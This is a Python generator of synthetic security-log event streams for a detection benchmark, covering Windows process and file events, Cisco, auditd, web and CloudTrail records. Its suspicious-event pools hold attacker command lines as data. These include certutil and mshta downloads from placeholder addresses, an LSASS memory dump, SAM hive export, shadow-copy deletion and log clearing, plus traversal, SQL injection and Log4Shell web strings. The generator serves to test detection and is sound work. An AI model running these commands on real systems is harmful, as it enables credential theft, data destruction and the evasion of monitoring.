#!/usr/bin/env python3
"""Writes the event lanes of the macro benchmark: streams of one shape each, as JSON lines.

Usage: gen_lanes.py LANE [--count N] [--seed S] [--fresh F] > lane.jsonl
       gen_lanes.py --all FOLDER [--count N] [--fresh F]
       gen_lanes.py --list

The bytes depend on the arguments only. Every value comes from a small pool, so values repeat far
more than in life; `--fresh 0.3` makes 30 of 100 command lines, paths, users, hosts and addresses
ones that were hardly there before. Share of suspicious events, keys and size of each lane are in
LANES. All names are made up; addresses are from the documentation ranges.
"""
import argparse
import json
import os
import random
import sys

SYS32 = "C:\\Windows\\System32\\"
PROGRAMS = "C:\\Program Files\\"
POWERSHELL = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
SYSMON = "Microsoft-Windows-Sysmon"

# Image and what it is called with.
BENIGN = [
    (PROGRAMS + "Slipway\\client.exe",
     '"' + PROGRAMS + 'Slipway\\client.exe" --ledger 2026 --branch north --no-splash'),
    (PROGRAMS + "Harbor Mail\\mail.exe", '"' + PROGRAMS + 'Harbor Mail\\mail.exe" --sync --profile 2'),
    (PROGRAMS + "Fernweh Browser\\fernweh.exe",
     '"' + PROGRAMS + 'Fernweh Browser\\fernweh.exe" --type=renderer --lang=en-GB'),
    (SYS32 + "taskhostw.exe", "taskhostw.exe KEYROAMING"),
    (SYS32 + "backgroundTaskHost.exe", SYS32 + "backgroundTaskHost.exe -ServerName:Widgets.AppX"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe /factory -Embedding"),
    (PROGRAMS + "Tidewater Backup\\agent.exe",
     '"' + PROGRAMS + 'Tidewater Backup\\agent.exe" run --plan nightly --volume D:'),
    (SYS32 + "SearchProtocolHost.exe", SYS32 + "SearchProtocolHost.exe Global\\UsGthrFltPipe 4"),
]
SUSPICIOUS = [
    (SYS32 + "whoami.exe", "whoami.exe /priv /groups"),
    (POWERSHELL, "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
                 "RwBlAHQALQBQAHIAbwBjAGUAcwBzAA=="),
    (SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.9/a.bin C:\\ProgramData\\a.exe"),
    (SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (SYS32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 "
                             "C:\\Users\\Public\\m.dmp full"),
    (SYS32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Users\\Public\\s.hiv /y"),
    (SYS32 + "schtasks.exe", 'schtasks.exe /create /sc onlogon /tn "Harbor Sync" /tr C:\\ProgramData\\a.exe'),
    (SYS32 + "net.exe", 'net.exe group "Domain Admins" /domain'),
    (SYS32 + "mshta.exe", "mshta.exe http://198.51.100.12/start.hta"),
    (SYS32 + "wevtutil.exe", "wevtutil.exe cl Security"),
]
PARENTS = [
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe"),
    (SYS32 + "services.exe", SYS32 + "services.exe"),
    (SYS32 + "cmd.exe", '"' + SYS32 + 'cmd.exe" /c start.cmd'),
    (POWERSHELL, "powershell.exe -File C:\\Ops\\inventory.ps1"),
    (SYS32 + "svchost.exe", SYS32 + "svchost.exe -k netsvcs -p -s Schedule"),
]
USERS = ["QUAYSIDE\\m.ossler", "QUAYSIDE\\t.brandt", "QUAYSIDE\\svc-build", "NT AUTHORITY\\SYSTEM",
         "QUAYSIDE\\j.ferrand"]
HOSTS = ["QS-WKS-014", "QS-WKS-027", "QS-DC-01", "QS-FS-02", "QS-WKS-101"]
FOLDERS = ["C:\\Windows\\system32\\", "C:\\Users\\m.ossler\\", "C:\\Users\\t.brandt\\Documents\\",
           "D:\\build\\agent\\work\\"]
LEVELS = ["Medium", "High", "System", "Low"]

BENIGN_FILES = [
    "C:\\Users\\m.ossler\\AppData\\Local\\Harbor Mail\\cache\\folder-0009.idx",
    "C:\\Users\\t.brandt\\Documents\\offer-draft.docx",
    "C:\\ProgramData\\Tidewater Backup\\plans\\nightly.journal",
    "D:\\build\\agent\\work\\obj\\module.obj",
    "C:\\Users\\j.ferrand\\AppData\\Local\\Fernweh Browser\\cache\\f_0001a4",
    "C:\\Windows\\Prefetch\\TASKHOSTW.EXE-2A1F.pf",
]
SUSPICIOUS_FILES = [
    "C:\\Users\\m.ossler\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.vbs",
    "C:\\Users\\Public\\lsass_0411.dmp",
    "C:\\Windows\\System32\\drivers\\quiet.sys.ps1",
    "C:\\inetpub\\wwwroot\\portal\\up.aspx",
    "C:\\Windows\\Temp\\procdump64.exe",
]
BENIGN_CISCO = ["configure terminal", "interface GigabitEthernet0/3", "description uplink hall 2",
                "ping 192.0.2.20 repeat 5", "terminal length 0", "exit"]
SUSPICIOUS_CISCO = ["no logging buffered", "archive tar /create flash:c.tar", "show running-config",
                    "username svc9 privilege 15 secret x", "clear logging"]
AUDIT_PROGRAMS = [("/usr/bin/rsync", "rsync"), ("/usr/sbin/cron", "cron"), ("/usr/bin/git", "git"),
                  ("/usr/bin/python3.11", "python3")]
AUDIT_SUSPICIOUS = [("/usr/bin/curl", "curl"), ("/usr/bin/base64", "base64"), ("/usr/bin/chattr", "chattr")]
PAGES = ["/", "/catalogue?page=2", "/static/site.css", "/api/v2/berths", "/login"]
SUSPICIOUS_PAGES = ["/download?file=../../../../etc/passwd", "/item?id=1+UNION+SELECT+password",
                    "/cgi-bin/status?x=%24%7Bjndi:ldap://203.0.113.9/a%7D"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64) Fernweh/12.1", "QuaysideApp/4.7 (iOS)", "curl/7.88.1"]
CLOUD = [("ec2.amazonaws.com", "DescribeInstances"), ("s3.amazonaws.com", "GetObject"),
         ("sts.amazonaws.com", "AssumeRole"), ("kms.amazonaws.com", "Decrypt")]
SUSPICIOUS_CLOUD = [("cloudtrail.amazonaws.com", "StopLogging"), ("iam.amazonaws.com", "CreateAccessKey"),
                    ("guardduty.amazonaws.com", "DeleteDetector")]


class Source:
    """Seeded values. Only random() is used, whose sequence Python promises to keep."""

    def __init__(self, seed, fresh):
        self.random = random.Random(seed)
        self.fresh = fresh

    def number(self, below):
        return int(self.random.random() * below)

    def pick(self, pool):
        return pool[self.number(len(pool))]

    def chance(self, share):
        return self.random.random() < share

    def hex(self, digits):
        return "".join("%06x" % self.number(1 << 24) for _ in range((digits + 5) // 6))[:digits]

    def is_fresh(self):
        return self.fresh > 0 and self.chance(self.fresh)

    def guid(self):
        text = self.hex(32)
        return "{%s-%s-%s-%s-%s}" % (text[:8], text[8:12], text[12:16], text[16:20], text[20:])

    def user(self):
        return "QUAYSIDE\\u%s" % self.hex(6) if self.is_fresh() else self.pick(USERS)

    def host(self):
        return "QS-WKS-%s" % self.hex(5) if self.is_fresh() else self.pick(HOSTS)

    def address(self):
        return "198.51.%d.%d" % (self.number(256), self.number(256)) if self.is_fresh() \
            else "192.0.2.%d" % (10 + self.number(8))

    def call(self, suspicious):
        """An image and its command line."""
        image, line = self.pick(SUSPICIOUS if suspicious else BENIGN)
        if self.is_fresh():
            line += " --ticket " + self.hex(10)
            if not suspicious:
                image = "%sTool %s\\%s.exe" % (PROGRAMS, self.hex(4), self.hex(8))
        return image, line

    def path(self, suspicious):
        path = self.pick(SUSPICIOUS_FILES if suspicious else BENIGN_FILES)
        if self.is_fresh():
            folder, _, name = path.rpartition("\\")
            path = "%s\\%s-%s" % (folder, self.hex(6), name)
        return path

    def text(self, pool, tag):
        text = self.pick(pool)
        return text + tag + self.hex(8) if self.is_fresh() else text


def clock(i):
    """Half a second from event to event."""
    seconds = i // 2
    return "%02d:%02d:%02d" % (seconds // 3600 % 24, seconds // 60 % 60, seconds % 60)


def raw_windows(source, i, suspicious):
    image, line = source.call(suspicious)
    parent = source.pick(PARENTS)[0]
    host = source.host()
    who = source.user().partition("\\")
    fields = [
        "<13>Nov 17 %s %s MSWinEventLog" % (clock(i), host), "1", "Security", str(40000 + i),
        "Tue Nov 17 %s 2026" % clock(i), "4688", "Microsoft-Windows-Security-Auditing", "N/A", "N/A",
        "Success Audit", host, "Process Creation", "",
        "A new process has been created.    Creator Subject:   Security ID:  S-1-5-21-10-20-30-%d   "
        "Account Name:  %s   Account Domain:  %s   Logon ID:  0x%s    Target Subject:   Security ID:  "
        "S-1-0-0   Account Name:  -   Account Domain:  -   Logon ID:  0x0    Process Information:   "
        "New Process ID:  0x%s   New Process Name:  %s   Token Elevation Type:  %%%%1938   Mandatory "
        "Label:  S-1-16-8192   Creator Process ID:  0x%s   Creator Process Name:  %s   Process Command "
        "Line:  %s" % (1000 + source.number(40), who[2], who[0], source.hex(5), source.hex(4), image,
                       source.hex(4), parent, line),
        str(10000 + source.number(80000))]
    return {"message": "\t".join(fields), "product": "windows"}


def structured_windows(source, i, suspicious):
    image, line = source.call(suspicious)
    parent, parent_line = source.pick(PARENTS)
    return {
        "product": "windows", "category": "process_creation", "Channel": SYSMON_CHANNEL,
        "Provider_Name": SYSMON, "EventID": 1, "Computer": source.host(),
        "UtcTime": "2026-11-17 %s.%03d" % (clock(i), i % 1000), "ProcessGuid": source.guid(),
        "ProcessId": 500 + source.number(9000), "Image": image,
        "OriginalFileName": image.rpartition("\\")[2], "CommandLine": line,
        "CurrentDirectory": source.pick(FOLDERS), "User": source.user(),
        "IntegrityLevel": source.pick(LEVELS), "Hashes": "MD5=" + source.hex(32).upper(),
        "ParentImage": parent, "ParentCommandLine": parent_line}


def sysmon_file_event(source, i, suspicious):
    return {
        "product": "windows", "category": "file_event", "EventID": "11", "Channel": SYSMON_CHANNEL,
        "Provider_Name": SYSMON, "Computer": source.host(),
        "UtcTime": "2026-11-17 %s.%03d" % (clock(i), i % 1000), "ProcessGuid": source.guid(),
        "ProcessId": 500 + source.number(9000), "Image": source.call(suspicious)[0],
        "TargetFilename": source.path(suspicious), "User": source.user()}


def cisco_syslog(source, i, suspicious):
    command = source.text(SUSPICIOUS_CISCO if suspicious else BENIGN_CISCO, " ")
    return {"message": "<189>%d: Nov 17 %s: %%AAA-5-USER_LOGGED: operator%d at %s: %s" % (
        1000 + i % 9000, clock(i), source.number(5), source.address(), command),
            "product": "cisco", "service": "aaa"}


def no_match(source, i, suspicious):
    del i, suspicious
    event = {"f%d" % k: source.hex(24) for k in range(8)}
    event["product"] = "synthetic"
    return event


def auditd(source, i, suspicious):
    exe, name = source.pick(AUDIT_SUSPICIOUS if suspicious else AUDIT_PROGRAMS)
    return {"product": "linux", "service": "auditd", "type": "SYSCALL", "syscall": "execve",
            "exe": exe, "comm": name, "a0": name, "a1": source.text(["-l", "--all", "-q"], "x")}


def web(source, i, suspicious):
    page = source.text(SUSPICIOUS_PAGES if suspicious else PAGES, "&t=")
    return {"category": "webserver", "cs-method": "GET", "cs-uri-query": page, "c-ip": source.address(),
            "cs-user-agent": source.pick(AGENTS), "sc-status": source.pick([200, 200, 200, 304, 404]),
            "time": clock(i)}


def cloudtrail(source, i, suspicious):
    service, name = source.pick(SUSPICIOUS_CLOUD if suspicious else CLOUD)
    return {"product": "aws", "service": "cloudtrail", "eventSource": service, "eventName": name,
            "eventTime": "2026-11-17T%sZ" % clock(i), "awsRegion": "eu-north-1",
            "sourceIPAddress": source.address(),
            "userIdentity": {"type": "IAMUser", "userName": "ops-%d" % source.number(6),
                             "arn": "arn:aws:iam::000011112222:user/ops"}}


def mixed_schema(source, i, suspicious):
    make = (structured_windows, auditd, web, cloudtrail)[i % 4]
    return make(source, i, suspicious)


def correlation(source, i, suspicious):
    del suspicious
    sequence = i // 5
    return {"EventType": "authentication_success" if i % 5 == 4 else "authentication_failure",
            "User": "account%02d" % (sequence % 100), "Computer": "QUAYSIDE-SRV-%d" % (sequence % 10),
            "SourceIP": "198.51.100.%d" % (1 + source.number(50)), "BytesOut": source.number(9000),
            "product": "quayside", "sequence": sequence}


# Name: maker, seed, share of suspicious events, bytes of an event on average.
LANES = {
    "raw_windows": (raw_windows, 1011, 0.10, 862),
    "structured_windows": (structured_windows, 1023, 0.02, 705),
    "low_match": (structured_windows, 1059, 0.01, 705),
    "match_heavy": (structured_windows, 1061, 0.80, 721),
    "mixed_schema": (mixed_schema, 1083, 0.02, 311),
    "no_match": (no_match, 1047, 0.0, 280),
    "cisco_syslog": (cisco_syslog, 1101, 0.10, 146),
    "sysmon_file_event": (sysmon_file_event, 1103, 0.05, 445),
    "correlation": (correlation, 1107, 0.0, 169),
}


def lane_events(lane, count, seed=None, fresh=0.0):
    """The events of a lane, as JSON texts."""
    make, own_seed, share, _ = LANES[lane]
    source = Source(own_seed if seed is None else seed, fresh)
    for i in range(count):
        event = make(source, i, source.chance(share))
        yield json.dumps(event, separators=(",", ":"))


def write_lane(out, lane, count, seed=None, fresh=0.0):
    for text in lane_events(lane, count, seed, fresh):
        out.write(text)
        out.write("\n")


def share(text):
    value = float(text)
    if not 0 <= value <= 1:
        raise argparse.ArgumentTypeError("must be from 0 to 1")
    return value


def main(argv=None):
    parser = argparse.ArgumentParser(description="Writes the event lanes of the macro benchmark.")
    parser.add_argument("lane", nargs="?", choices=sorted(LANES))
    parser.add_argument("--all", metavar="FOLDER", help="every lane, as FOLDER/LANE.jsonl")
    parser.add_argument("--count", type=int, default=10000, help="events of a lane (default 10000)")
    parser.add_argument("--seed", type=int, help="instead of the lane's own")
    parser.add_argument("--fresh", type=share, default=0.0, metavar="F",
                        help="share of values that do not come from the pools, 0 (default) to 1")
    parser.add_argument("--list", action="store_true", help="names of the lanes")
    args = parser.parse_args(argv)
    if args.list:
        print("\n".join(LANES))
    elif args.all:
        os.makedirs(args.all, exist_ok=True)
        for lane in LANES:
            with open(os.path.join(args.all, lane + ".jsonl"), "w", encoding="utf-8", newline="\n") as out:
                write_lane(out, lane, args.count, args.seed, args.fresh)
    elif args.lane:
        sys.stdout.reconfigure(encoding="utf-8", newline="\n")
        write_lane(sys.stdout, args.lane, args.count, args.seed, args.fresh)
    else:
        parser.error("name a lane, or --all FOLDER")


if __name__ == "__main__":
    main()
